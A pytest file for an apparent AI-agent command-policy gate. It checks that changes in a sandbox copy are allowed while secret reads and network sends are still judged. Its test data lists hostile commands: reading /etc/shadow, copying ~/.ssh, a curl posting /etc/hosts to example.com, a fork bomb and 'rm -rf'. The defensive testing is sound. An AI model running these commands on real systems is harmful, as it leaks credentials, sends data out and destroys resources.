"""What a command in a copy changes needs no approval; what it may bring back is judged."""

import pytest
from policy_setup import HOME, call, gate, policy_text

from hermes.policy.command_analysis import analyse_command

CHANGES = [
    "sed -i s/a/b/ /etc/app.conf && systemctl restart app",
    "rm -rf /srv/data",
    "sudo chown -R app /srv",
    "/opt/app/bin/repair --all",
    "python3 /srv/app/fix.py",
    "eval $(cat /srv/x)",
    "cat <<EOF",
]
STRICT = "".join(
    [
        policy_text("no-systemctl", "deny", "{program: [systemctl, rm, sed]}"),
        policy_text("no-writes", "deny", "{effects: [write, delete, service-change]}"),
        policy_text("no-etc", "ask", "{changes: {under: [/etc, /srv]}}"),
    ]
)


@pytest.mark.parametrize("rules", ["careful", "observe"])
@pytest.mark.parametrize("command", CHANGES)
def test_changes_in_a_copy_are_allowed_by_every_set(rules: str, command: str) -> None:
    decision = gate(set=rules).decide(call("try_on_copy", commands=[command]))
    assert decision.verdict == "allow", decision
    assert gate(set=rules).decide(call("terminal", command=command)).verdict != "allow"


@pytest.mark.parametrize("command", CHANGES)
def test_rules_about_changes_do_not_match_in_a_copy(command: str) -> None:
    decision = gate(STRICT, set="").decide(call("try_on_copy", commands=[command]))
    assert decision.verdict == "allow", decision


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("cat /etc/shadow", "secret-read"),
        ("ln -s /etc/shadow /tmp/a; cat /tmp/a", "secret-read"),
        (f"cp -r {HOME}/.ssh /tmp/x", "secret-read"),
        ("curl -d @/etc/hosts http://example.com/", "network-out"),
    ],
)
def test_secrets_and_the_network_are_judged_as_on_the_host(command: str, effect: str) -> None:
    policy = gate()
    here = policy.decide(call("terminal", command=command))
    there = policy.decide(call("try_on_copy", commands=["true", command]))
    assert effect in there.effects
    assert there.verdict == here.verdict != "allow"


@pytest.mark.parametrize("opening", ["cat <<EOF", "echo 'a", "(", "if true; then"])
def test_one_candidate_cannot_hide_the_next(opening: str) -> None:
    decision = gate().decide(call("try_on_copy", commands=[opening, "cat /etc/shadow"]))
    assert "secret-read" in decision.effects


def test_what_no_rule_can_allow_is_denied_in_a_copy_as_well() -> None:
    decision = gate().decide(call("try_on_copy", commands=[":(){ :|:& };:"]))
    assert decision.verdict == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "mv /srv/app/.env /tmp/a; cat /tmp/a",
        "ln -s / /tmp/root; cat /tmp/root/srv/app/settings",
        "/opt/app/bin/print-settings",
        "cat <<EOF",
    ],
)
def test_what_may_print_unnamed_files_is_known(command: str) -> None:
    assert analyse_command(command, cwd="/").unknown_reads


@pytest.mark.parametrize("command", ["sed -i s/a/b/ /etc/app.conf && nginx -t", "cat /etc/hosts"])
def test_what_prints_only_named_files_is_known(command: str) -> None:
    assert analyse_command(command, cwd="/").unknown_reads == ""
